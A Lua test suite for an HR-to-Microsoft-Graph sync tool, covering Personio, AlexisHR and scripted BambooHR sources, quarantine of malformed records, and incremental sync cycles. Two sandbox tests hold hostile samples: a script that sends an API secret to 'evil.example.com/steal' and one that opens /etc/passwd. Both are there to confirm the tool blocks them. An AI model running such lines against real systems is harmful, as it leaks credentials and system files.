-- HR sources over HTTP: Personio, AlexisHR and sources scripted in Lua, read from the HR
-- simulator (the fixtures of tests/fixtures), on their own and in full cycles into the
-- simulated Microsoft Graph; and the bad inputs that are quarantined while the read goes on.
local hrsync = require "hrsync"
local h = require "helpers"

local PIO_ID, PIO_SECRET = "pio-client", "pio-s3cret-value"
local AX_TOKEN = "alexis-t0ken-value"
local API_KEY = "bamboo-api-key-value"

local function by_id(list, id)
  for _, p in ipairs(list) do
    if p.id == id then return p end
  end
end

local function reasons(quarantine)
  local all = {}
  for _, q in ipairs(quarantine) do all[#all + 1] = q.reason end
  return table.concat(all, "\n")
end

local function user_by_employee_id(snapshot, id)
  for _, u in ipairs(snapshot.users) do
    if u.employeeId == id then return u end
  end
end

-- A policy written for these scenarios: active people and people on leave have accounts.
local POLICY = [[
local upn = require "hrsync.upn"
return {
  include = function(p) return p.status == "active" or p.status == "leave" end,
  attributes = function(p)
    return { givenName = p.first_name, surname = p.last_name,
             displayName = p.first_name .. " " .. p.last_name, department = p.department,
             jobTitle = p.position, officeLocation = p.office,
             -- AlexisHR ids are 24 characters, over employeeId's 16: use the employee number
             employeeId = p.employee_number or p.id }
  end,
  upn = upn.candidates{ "{first}.{last}", "{first}.{last}{n}", domain = "example.com", fold = "de" },
  groups = function(p) return p.department == "Engineering" and { "SG-Engineering" } or {} end,
}
]]

describe("HR sources", function()
  local hr, dir

  before_each(function()
    hrsync.log_level("error")            -- quarantined pages are warned about; expected here
    hr = assert(hrsync.hrsim_start{
      personio_client_id = PIO_ID, personio_client_secret = PIO_SECRET,
      alexis_token = AX_TOKEN, custom_user = API_KEY, custom_password = "x",
    })
    dir = h.tmpdir()
    h.write(dir .. "/pio-secret", PIO_SECRET .. "\n")
    h.write(dir .. "/alexis-token", AX_TOKEN .. "\n")
    h.write(dir .. "/bamboo-key", API_KEY .. "\n")
    h.write(dir .. "/policy.lua", POLICY)
  end)

  after_each(function()
    hr:stop()
    hrsync.log_level("warn")
    os.execute("rm -rf '" .. dir .. "'")
  end)

  local function personio(extra)
    local t = { type = "personio", base_url = hr:url() .. "/personio/v1", client_id = PIO_ID,
                client_secret_file = dir .. "/pio-secret", page_size = 6 }
    for k, v in pairs(extra or {}) do t[k] = v end
    return t
  end

  local function alexishr(extra)
    local t = { type = "alexishr", base_url = hr:url() .. "/alexishr/v1",
                token_file = dir .. "/alexis-token" }
    for k, v in pairs(extra or {}) do t[k] = v end
    return t
  end

  local function bamboohr(extra)
    local t = { type = "lua", script = "bamboohr.lua", hosts = { "127.0.0.1" },
                secrets = { api_key_file = dir .. "/bamboo-key" }, company = "example",
                base_url = hr:url() .. "/bamboohr/api/gateway.php",
                statuses = { "active", "inactive" } }
    for k, v in pairs(extra or {}) do t[k] = v end
    return t
  end

  describe("Personio", function()
    it("reads both pages and resolves the supervisor on the second", function()
      local r = assert(hrsync.read_source(personio{ fields = { personnel_number = "Personnel number" } }))
      assert.are.equal(7, #r.people)
      assert.are.equal(0, #r.quarantine)
      assert.is_false(r.partial)
      local katrin = by_id(r.people, "1001")
      assert.are.equal("1007", katrin.supervisor_id)
      assert.are.equal("andreas.lindner@example.com", katrin.supervisor_email)
      assert.is_table(by_id(r.people, "1007"), "1007 is only on page 2")
      assert.are.equal("onboarding", by_id(r.people, "1003").status)
      assert.are.equal("2027-01-04", by_id(r.people, "1003").hire_date)
      assert.are.equal("inactive", by_id(r.people, "1005").status)
      assert.are.equal("2024-06-30", by_id(r.people, "1005").termination_date)
      local zoe = by_id(r.people, "1002")
      assert.are.equal("Zoë", zoe.first_name)
      assert.are.equal("Müller-Lüdenscheidt", zoe.last_name)
      assert.are.equal("Liam", by_id(r.people, "1003").first_name)
      assert.are.equal("O'Brien", by_id(r.people, "1003").last_name)
      assert.are.equal("P-0001", by_id(r.people, "1007").personnel_number)
      assert.are.equal("Engineering", katrin.department)
      assert.are.equal("Berlin", katrin.office)
      local st = hr:stats()
      assert.are.equal(2, st.personio_pages)
      assert.are.equal(1, st.personio_auth)
      assert.are.equal(0, st.query_credentials, "credentials go in the body, never the query")
    end)

    it("backs off on 429 with and without Retry-After", function()
      hr:fault("throttle_next", 1)
      assert.are.equal(7, #assert(hrsync.read_source(personio())).people)
      hr:fault("retry_after", 0)
      hr:fault("throttle_next", 2)
      assert.are.equal(7, #assert(hrsync.read_source(personio())).people)
      assert.are.equal(3, hr:stats().throttled)
    end)

    it("says which attribute to whitelist when the credential may not read it", function()
      hr:set("personio", "*", "dynamic_2714401", nil)
      local r, err = hrsync.read_source(personio{ fields = { personnel_number = "dynamic_2714401" } })
      assert.is_nil(r)
      assert.matches('no attribute "dynamic_2714401"', err, 1, true)
      assert.matches("Readable employee attributes", err, 1, true)
    end)

    it("names the service's words and never the secret when the secret is wrong", function()
      h.write(dir .. "/pio-secret", "not-the-secret-value\n")
      local r, err = hrsync.read_source(personio())
      assert.is_nil(r)
      assert.matches("HTTP 401: Wrong credentials", err, 1, true)
      assert.is_nil(err:find("not-the-secret-value", 1, true))
    end)

    it("reads incrementally with updated_since and says the read is partial", function()
      local r = assert(hrsync.read_source(personio{ updated_since = "2026-11-01" }))
      assert.is_true(r.partial)
      assert.are.equal(2, #r.people)     -- 1003 and 1006 changed in November
    end)
  end)

  describe("AlexisHR", function()
    it("reads the employees with departments, offices and managers resolved", function()
      local r = assert(hrsync.read_source(alexishr{ page_size = 2 }))
      assert.are.equal(3, #r.people)
      assert.are.equal(2, hr:stats().alexis_pages)
      local astrid = by_id(r.people, "64b7f0c2a1e4d3b2c1a0e001")
      local bjorn = by_id(r.people, "64b7f0c2a1e4d3b2c1a0e002")
      local siobhan = by_id(r.people, "64b7f0c2a1e4d3b2c1a0e003")
      assert.are.equal("Björn", bjorn.first_name)
      assert.are.equal("Åkesson-Nyström", bjorn.last_name)
      assert.are.equal(astrid.id, bjorn.supervisor_id)
      assert.are.equal("Engineering", bjorn.department)
      assert.are.equal("Stockholm", bjorn.office)
      assert.are.equal("2027-02-28", bjorn.termination_date)
      assert.are.equal("2022-03-01", bjorn.hire_date)
      assert.are.equal("bjorn.akesson-nystrom@example.com", bjorn.email)
      assert.are.equal("Backend Engineer", bjorn.position)
      assert.are.equal("active", bjorn.status)
      assert.are.equal("inactive", siobhan.status)
      assert.are.equal("Customer Success", siobhan.department)
      assert.are.equal("Siobhán", siobhan.first_name)
    end)

    it("filters, reads incrementally and reports AlexisHR's own errors", function()
      local r = assert(hrsync.read_source(alexishr{ filters = { active = true } }))
      assert.are.equal(2, #r.people)
      r = assert(hrsync.read_source(alexishr{ updated_since = "2026-06-01T00:00:00Z" }))
      assert.is_true(r.partial)
      assert.are.equal(2, #r.people)
      h.write(dir .. "/alexis-token", "wrong-token-value\n")
      local none, err = hrsync.read_source(alexishr())
      assert.is_nil(none)
      assert.matches("AlexisHR: GET .*/alexishr/v1/employee .*HTTP 401: Unauthorized", err)
      assert.is_nil(err:find("wrong-token-value", 1, true))
    end)
  end)

  describe("bad input", function()
    it("quarantines a malformed page, a record without id, duplicate ids, a bad date and an unknown status", function()
      hr:set("personio", "1003", "id", nil)
      hr:set("personio", "1004", "id", 1002)
      hr:set("personio", "1006", "hire_date", "2023-13-01T00:00:00+02:00")
      hr:set("personio", "1005", "status", "retired")
      hr:fault("malformed_page", 7)       -- the page at offset 6 (1007)
      local r = assert(hrsync.read_source(personio()))
      assert.are.same({ "1001" }, (function()
        local ids = {}
        for _, p in ipairs(r.people) do ids[#ids + 1] = p.id end
        return ids
      end)())
      local text = reasons(r.quarantine)
      assert.matches("the page of employees at offset 6 (records 6 to 11) could not be read", text, 1, true)
      assert.matches("not valid JSON", text, 1, true)
      assert.matches("the record has no id", text, 1, true)
      assert.matches('duplicate id "1002" (index 1 and index 3)', text, 1, true)
      assert.matches('hire_date ("Hire date") "2023-13-01T00:00:00+02:00" is not a valid date', text, 1, true)
      assert.matches('status ("Status") "retired" is not a Personio status', text, 1, true)
      assert.are.equal(6, #r.quarantine)
    end)

    it("quarantines an AlexisHR record whose active flag is not a boolean, and a malformed page", function()
      hr:set("alexishr", "64b7f0c2a1e4d3b2c1a0e003", "active", "yes")
      local r = assert(hrsync.read_source(alexishr()))
      assert.are.equal(2, #r.people)
      assert.matches('active is "yes", not true or false', reasons(r.quarantine), 1, true)
      hr:fault("malformed_alexis_page", 3)
      r = assert(hrsync.read_source(alexishr{ page_size = 2 }))
      assert.are.equal(2, #r.people)                  -- the third was on the lost page
      assert.are.equal(1, #r.quarantine)
      assert.matches("offset 2", reasons(r.quarantine), 1, true)
    end)
  end)

  describe("sources scripted in Lua", function()
    it("reads a paged in-house API with Basic auth from a secret", function()
      h.write(dir .. "/people.lua", [[
local auth = http.basic(http.secret("key"), "x")
local url, people = config.url .. "/custom/people", {}
local query = { per_page = 3 }
while url do
  local page = http.get(url, { auth = auth, query = query })
  for _, p in ipairs(page.json.people) do people[#people + 1] = p end
  url, query = page.json.next, nil
end
return people
]])
      local r = assert(hrsync.read_source{
        type = "lua", script = dir .. "/people.lua", hosts = { "127.0.0.1" },
        secrets = { key_file = dir .. "/bamboo-key" }, url = hr:url(),
      })
      assert.are.equal(7, #r.people)
      assert.are.equal(3, hr:stats().custom_pages)
      assert.are.equal("Zoë", by_id(r.people, "1002").first_name)
      assert.are.equal("1007", by_id(r.people, "1001").supervisor_id)
      assert.are.equal("2019-05-01", by_id(r.people, "1001").hire_date)
    end)

    it("reads BambooHR with the shipped script", function()
      local r = assert(hrsync.read_source(bamboohr()))
      assert.are.equal(7, #r.people)
      local zoe = by_id(r.people, "1002")
      assert.are.equal("Müller-Lüdenscheidt", zoe.last_name)
      assert.are.equal("active", zoe.status)
      assert.are.equal("Engineering", zoe.department)
      assert.are.equal("1001", zoe.supervisor_id)
      assert.are.equal("inactive", by_id(r.people, "1005").status)
      assert.is_nil(by_id(r.people, "1001").termination_date, "0000-00-00 is no date")
      assert.are.equal("Nonbinary", zoe.raw.gender)
    end)

    it("refuses a host the config does not name, and keeps secrets out of errors", function()
      h.write(dir .. "/evil.lua", [[
local auth = http.bearer(http.secret("key"))
http.get("https://evil.example.com/steal", { auth = auth })
return {}
]])
      local r, err = hrsync.read_source{ type = "lua", script = dir .. "/evil.lua",
                                          hosts = { "127.0.0.1" },
                                          secrets = { key_file = dir .. "/bamboo-key" } }
      assert.is_nil(r)
      assert.matches('the host "evil.example.com" is not in source.hosts (allowed: 127.0.0.1)', err, 1, true)
      h.write(dir .. "/bamboo-key", "a-wrong-api-key-value\n")
      r, err = hrsync.read_source(bamboohr())
      assert.is_nil(r)
      assert.matches("HTTP 401", err, 1, true)
      assert.is_nil(err:find("a-wrong-api-key-value", 1, true))
      local r2, err2 = hrsync.read_source(bamboohr{ api_key = "inline" })
      assert.is_nil(r2)
      assert.matches("secrets are not read from the config", err2, 1, true)
    end)

    it("runs in the sandbox and quarantines what the script cannot read", function()
      h.write(dir .. "/io.lua", [[return { { id = io.open("/etc/passwd") } }]])
      local r, err = hrsync.read_source{ type = "lua", script = dir .. "/io.lua", hosts = { "127.0.0.1" } }
      assert.is_nil(r)
      assert.matches("global 'io'", err, 1, true)
      h.write(dir .. "/odd.lua", [[
return { { id = "1", first_name = "Ada", status = "Active", hire_date = "2020-02-30" },
         { id = "2", first_name = "Bo", status = "zombie" },
         { first_name = "No id" },
         { id = "3", first_name = "Cy", status = "inactive" } },
       { { id = "9", reason = "the API sent a record without fields" } }
]])
      r = assert(hrsync.read_source{ type = "lua", script = dir .. "/odd.lua", hosts = { "127.0.0.1" },
                                     statuses = { "active", "inactive" } })
      assert.are.equal(1, #r.people)
      local text = reasons(r.quarantine)
      assert.matches('hire_date "2020-02-30" is not a valid date', text, 1, true)
      assert.matches('status "zombie" is not one of the known statuses (active, inactive)', text, 1, true)
      assert.matches("the record has no id", text, 1, true)
      assert.matches("the API sent a record without fields", text, 1, true)
    end)
  end)

  describe("full cycles into the simulated Graph", function()
    local graph, secret

    before_each(function()
      local seed = h.write(dir .. "/seed.json", [[{"domains": ["example.com"], "users": [],
        "groups": [{"id": "a1000000-0000-4000-8000-000000000001", "displayName": "SG-Engineering",
                    "members": []}]}]])
      graph, secret = h.start_sim(hrsync, { seed_file = seed })
    end)
    after_each(function() graph:stop() end)

    local function source_text(t)
      local parts = {}
      for k, v in pairs(t) do
        if type(v) == "table" then
          local items = {}
          for kk, vv in pairs(v) do
            items[#items + 1] = type(kk) == "number" and string.format("%q", vv)
                                or string.format("[%q] = %q", kk, vv)
          end
          parts[#parts + 1] = string.format("[%q] = { %s }", k, table.concat(items, ", "))
        else
          parts[#parts + 1] = string.format("[%q] = %q", k, v)
        end
      end
      return "{ " .. table.concat(parts, ", ") .. " }"
    end

    it("syncs Personio into Graph, and a second run plans nothing", function()
      local src = personio()
      src.client_secret_file = "pio-secret"        -- relative to the config's folder
      local config = h.config(dir, graph, { secret = secret, policy = dir .. "/policy.lua",
                                            source = source_text(src) })
      local plan, result = hrsync.sync(config)
      assert.is_table(plan, result)
      assert.are.equal(0, result.failed)
      assert.are.equal(5, result.created)          -- active and on leave: 1001 1002 1004 1006 1007
      local snap = graph:snapshot()
      local zoe = user_by_employee_id(snap, "1002")
      assert.are.equal("zoe.mueller-luedenscheidt@example.com", zoe.userPrincipalName)
      assert.are.equal("Müller-Lüdenscheidt", zoe.surname)
      assert.are.equal("Engineering", zoe.department)
      assert.is_true(h.is_member(snap, "SG-Engineering", zoe))
      assert.is_nil(user_by_employee_id(snap, "1005"), "inactive")
      assert.is_nil(user_by_employee_id(snap, "1003"), "onboarding is out of this policy's scope")
      assert.are.equal(0, #assert(hrsync.plan(config)).changes)
    end)

    it("reads only the people changed since the last cycle between full reconciles", function()
      local src = personio()
      src.client_secret_file = "pio-secret"
      local config = h.config(dir, graph, { secret = secret, policy = dir .. "/policy.lua",
                                            source = source_text(src) })
      local engine = assert(hrsync.open(config))
      -- A full reconcile reads everyone and leaves a cursor behind.
      engine:set_cycle{ full = true, incremental = true }
      local plan, result = engine:sync()
      assert.is_table(plan, result)
      assert.are.equal(7, plan.summary.people)
      assert.are.equal(5, result.created)
      -- An HR change; the next cycle is incremental: only that person is read, nobody else is
      -- taken for a leaver, and the change reaches the directory.
      hr:set("personio", "1002", "position", "Staff Engineer")
      engine:set_cycle{ full = false, incremental = true }
      plan, result = engine:sync()
      assert.is_table(plan, result)
      assert.are.equal(1, plan.summary.people)
      assert.are.equal(0, plan.summary.disable or 0)
      assert.are.equal(1, result.updated)
      assert.are.equal("Staff Engineer", user_by_employee_id(graph:snapshot(), "1002").jobTitle)
      -- The next incremental cycle finds nothing new to do; a full one reads all seven again.
      plan = engine:sync()
      assert.are.equal(0, #plan.changes)
      assert.is_true(plan.summary.people <= 1)
      engine:set_cycle{ full = true, incremental = true }
      plan = engine:sync()
      assert.are.equal(7, plan.summary.people)
      assert.are.equal(0, #plan.changes)
      engine:close()
    end)

    it("between full reconciles, an updated_since read that brings no one lets the last plan with nothing to do stand", function()
      local src = personio()
      src.client_secret_file = "pio-secret"
      local config = h.config(dir, graph, { secret = secret, policy = dir .. "/policy.lua",
                                            source = source_text(src) })
      h.write(config, (h.read(config):gsub("(login_url = [^\n]*\n)", "%1    delta = true,\n")))
      local engine = assert(hrsync.open(config))
      engine:set_cycle{ full = true, incremental = true }
      assert.are.equal(5, select(2, engine:sync()).created)
      local plan = engine:sync()                                  -- full, nothing to do: the memo
      assert.are.equal(0, #plan.changes)
      assert.is_nil(plan.settled_since)
      engine:set_cycle{ full = false, incremental = true }
      plan = engine:sync()
      assert.is_string(plan.settled_since)                        -- nobody updated since: it stands
      assert.are.equal(7, plan.summary.people)
      -- HR changes someone: the read brings them, and the change reaches the directory.
      hr:set("personio", "1002", "position", "Staff Engineer")
      local result
      plan, result = engine:sync()
      assert.is_nil(plan.settled_since)
      assert.are.equal(1, result.updated)
      assert.are.equal("Staff Engineer", user_by_employee_id(graph:snapshot(), "1002").jobTitle)
      engine:close()
    end)

    it("syncs AlexisHR into Graph", function()
      local src = alexishr()
      src.token_file = "alexis-token"
      local config = h.config(dir, graph, { secret = secret, policy = dir .. "/policy.lua",
                                            source = source_text(src) })
      local plan, result = hrsync.sync(config)
      assert.is_table(plan, result)
      assert.are.equal(0, result.failed)
      assert.are.equal(2, result.created)
      local bjorn = user_by_employee_id(graph:snapshot(), "2")
      assert.are.equal("Åkesson-Nyström", bjorn.surname)
      assert.are.equal("Stockholm", bjorn.officeLocation)
    end)

    it("syncs BambooHR through the shipped script, quarantining a bad record on the way", function()
      hr:set("personio", "1004", "hire_date", "not a date")
      local src = bamboohr()
      src.secrets = nil
      local config = h.config(dir, graph, { secret = secret, policy = dir .. "/policy.lua",
                                            source = source_text(src):gsub(" }$", ", secrets = { api_key_file = \"bamboo-key\" } }") })
      local plan, result = hrsync.sync(config)
      assert.is_table(plan, result)
      assert.are.equal(0, result.failed)
      assert.matches('hire_date "not a date" is not a valid date', reasons(plan.quarantine), 1, true)
      assert.is_table(user_by_employee_id(graph:snapshot(), "1002"))
      assert.is_nil(user_by_employee_id(graph:snapshot(), "1004"))
    end)
  end)
end)
